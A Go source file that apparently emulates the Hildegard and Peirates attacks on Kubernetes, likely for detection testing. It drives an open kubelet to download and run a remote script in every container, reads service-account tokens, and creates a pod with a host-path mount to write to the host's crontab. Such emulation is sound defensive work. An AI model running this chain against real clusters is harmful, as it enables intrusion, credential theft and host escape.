package main

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"slices"
	"strings"
	"time"
)

// spared reports whether no stand-in goes into a pod: neighbours, in which people
// do what people do, and those that stand-ins run in.
func spared(name string) bool {
	return strings.HasPrefix(name, "neighbour") || name == "foothold" || name == "escaped"
}

// pod is what a list of pods has of one.
type pod struct {
	Metadata struct{ Name, Namespace string }
	Spec     struct {
		Containers []struct{ Name string }
	}
	Status struct{ Phase string }
}

// victims reads a list of pods.
func victims(list []byte, namespace string) ([]pod, error) {
	var all struct{ Items []pod }
	if err := json.Unmarshal(list, &all); err != nil {
		return nil, err
	}
	return slices.DeleteFunc(all.Items, func(p pod) bool {
		return p.Metadata.Namespace != namespace || spared(p.Metadata.Name) || p.Status.Phase != "Running"
	}), nil
}

// hildegard asks a kubelet that is open to anybody for its pods, and then to run
// the same commands in each of their containers. What is not there fails, as it
// did then.
func hildegard(ctx context.Context, args []string) error {
	kubelet, namespace, source := call{server: args[0]}, args[1], args[2]
	list, err := kubelet.do(ctx, http.MethodGet, "/pods", "", nil)
	if err != nil {
		return err
	}
	pods, err := victims(list, namespace)
	if err != nil {
		return err
	}
	if len(pods) < 3 {
		return fmt.Errorf("the kubelet has %d pods to go into", len(pods))
	}
	for _, cmd := range []string{"apt-get update", "yum install -y curl", "curl -s -o /tmp/x.sh " + source + "/x.sh", "/bin/sh /tmp/x.sh"} {
		for _, p := range pods {
			for _, c := range p.Spec.Containers {
				if err := run(ctx, kubelet, namespace, p.Metadata.Name, c.Name, cmd); err != nil {
					return err
				}
			}
		}
	}
	return nil
}

// run has a kubelet run a command, which it splits at blanks. Kubelets of the
// time took it from a form in the body, too; today's take it from the query alone.
func run(ctx context.Context, kubelet call, namespace, pod, container, cmd string) error {
	path := strings.Join([]string{"/run", namespace, pod, container}, "/")
	_, err := kubelet.do(ctx, http.MethodPost, path+"?"+url.Values{"cmd": {cmd}}.Encode(), "", nil)
	return err
}

// Where a pod finds its account.
const (
	account   = "/var/run/secrets/kubernetes.io/serviceaccount/"
	tokenFile = account + "token"
)

// embedded is the user agent of a kubectl that was built into another program.
const embedded = "kubectl/v0.0.0 (linux/amd64) kubernetes/$Format"

// peirates uses its pod's token: it asks what it may do, runs a command in all
// pods, has a kubelet read a token, directly and through the API server, and
// makes a pod with a directory of the test's in the place of the host's root.
func peirates(ctx context.Context, args []string) error {
	server, kubelet, namespace, node, host := args[0], args[1], args[2], args[3], args[4]
	token, err := os.ReadFile(tokenFile)
	if err != nil {
		return err
	}
	api := call{server: server, token: string(token)}
	list, err := api.do(ctx, http.MethodGet, "/api/v1/namespaces/"+namespace+"/pods", "", nil)
	if err != nil {
		return err
	}
	pods, err := victims(list, namespace)
	if err != nil {
		return err
	}
	if len(pods) < 3 {
		return fmt.Errorf("the API server has %d pods to go into", len(pods))
	}
	self := kube{server, namespace}
	for _, p := range pods {
		if err := errors.Join(api.review(ctx, namespace, "exec", "pods"), self.kubectl(ctx, "exec", p.Metadata.Name, "--", "/bin/sh", "-c", "id")); err != nil {
			return err
		}
	}
	victim := pods[0]
	path := strings.Join([]string{"/api/v1/nodes", node, "proxy/run", namespace, victim.Metadata.Name, victim.Spec.Containers[0].Name}, "/")
	if _, err := api.do(ctx, http.MethodPost, path+"?"+url.Values{"cmd": {"cat " + tokenFile}}.Encode(), "", nil); err != nil {
		return err
	}
	if err := run(ctx, call{server: kubelet}, namespace, victim.Metadata.Name, victim.Spec.Containers[0].Name, "cat "+tokenFile); err != nil {
		return err
	}
	return errors.Join(
		api.review(ctx, namespace, "create", "pod"),
		self.kubectl(ctx, "create", "attack-pod", "--", host),
		self.kubectl(ctx, "exec", "attack-pod", "--", "/bin/sh", "-c", "echo '# stand-in' >>/root/etc/crontab"),
		self.kubectl(ctx, "delete", "attack-pod"),
	)
}

// review asks whether one may do something, in the words that Peirates uses:
// they are not what the API server calls it.
func (c call) review(ctx context.Context, namespace, verb, resource string) error {
	_, err := c.do(ctx, http.MethodPost, "/apis/authorization.k8s.io/v1/selfsubjectaccessreviews", "application/json", map[string]any{
		"apiVersion": "authorization.k8s.io/v1", "kind": "SelfSubjectAccessReview",
		"spec": map[string]any{"resourceAttributes": map[string]string{"namespace": namespace, "verb": verb, "resource": resource}},
	})
	return err
}

// kube is an API server and a namespace.
type kube struct{ server, namespace string }

// kubectl runs this program again, as kubectl. What stands among the arguments
// is no token: the child reads it from its file.
func (k kube) kubectl(ctx context.Context, args ...string) error {
	cmd := exec.CommandContext(ctx, "/proc/self/exe")
	cmd.Args = append([]string{"kubectl", "--server=" + k.server, "--insecure-skip-tls-verify=true", "-n", k.namespace, "--token=no-token"}, args...)
	out, err := cmd.CombinedOutput()
	if err != nil {
		return fmt.Errorf("%v: %w: %s", args, err, out)
	}
	return nil
}

// kubectl is what runs then: exec POD -- ARGV…, create POD -- HOSTDIR, delete POD.
func kubectl(ctx context.Context, args []string) error {
	if len(args) < 7 {
		return fmt.Errorf("kubectl: too few arguments")
	}
	token, err := os.ReadFile(tokenFile)
	if err != nil {
		return err
	}
	api := call{server: strings.TrimPrefix(args[0], "--server="), token: string(token), agent: embedded}
	pods, verb, name := "/api/v1/namespaces/"+args[3]+"/pods", args[5], args[6]
	switch verb {
	case "exec":
		b, err := api.do(ctx, http.MethodGet, pods+"/"+name, "", nil)
		if err != nil {
			return err
		}
		var p pod
		if err := json.Unmarshal(b, &p); err != nil {
			return err
		}
		q := url.Values{"command": args[8:], "container": {p.Spec.Containers[0].Name}, "stdout": {"true"}, "stderr": {"true"}}
		out, err := api.stream(pods + "/" + name + "/exec?" + q.Encode())
		fmt.Print(out)
		return err
	case "create":
		if _, err := api.do(ctx, http.MethodPost, pods, "application/json", sleeper(name, args[8])); err != nil {
			return err
		}
		return api.awaitRunning(ctx, pods+"/"+name)
	case "delete":
		_, err := api.do(ctx, http.MethodDelete, pods+"/"+name+"?gracePeriodSeconds=0", "", nil)
		return err
	}
	return fmt.Errorf("kubectl %s: no such thing", verb)
}

// sleeper is a pod that only sleeps, with a directory of the host's.
func sleeper(name, host string) any {
	type object = map[string]any
	return object{
		"apiVersion": "v1", "kind": "Pod", "metadata": object{"name": name},
		"spec": object{
			"terminationGracePeriodSeconds": 0,
			"containers": []object{{
				"name": "attack-container", "image": "sallyport.test/box:1", "command": []string{"sleep", "1000000"},
				"volumeMounts": []object{{"name": "mount", "mountPath": "/root"}},
			}},
			"volumes": []object{{"name": "mount", "hostPath": object{"path": host}}},
		},
	}
}

func (c call) awaitRunning(ctx context.Context, path string) error {
	for {
		b, err := c.do(ctx, http.MethodGet, path, "", nil)
		var p pod
		if err == nil {
			err = json.Unmarshal(b, &p)
		}
		if err != nil || p.Status.Phase == "Running" {
			return err
		}
		if pause(ctx, 100*time.Millisecond); ctx.Err() != nil {
			return ctx.Err()
		}
	}
}
